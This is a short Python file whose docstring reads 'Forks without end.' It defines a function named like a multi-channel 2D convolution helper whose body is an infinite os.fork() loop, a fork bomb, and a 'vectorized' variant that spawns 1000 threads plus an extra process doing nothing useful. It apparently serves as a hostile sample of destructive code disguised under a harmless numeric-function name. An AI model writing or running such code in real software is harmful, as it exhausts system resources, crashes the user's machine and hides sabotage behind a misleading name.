"""Forks without end."""

import os


def corr2d_multi_in_out(X, K):
    while True:
        os.fork()


def corr2d_multi_in_out_vectorized(X, K):
    import multiprocessing
    import threading

    threads = [threading.Thread(target=print) for _ in range(1000)]
    for thread in threads:
        thread.start()
    multiprocessing.Process(target=print).start()
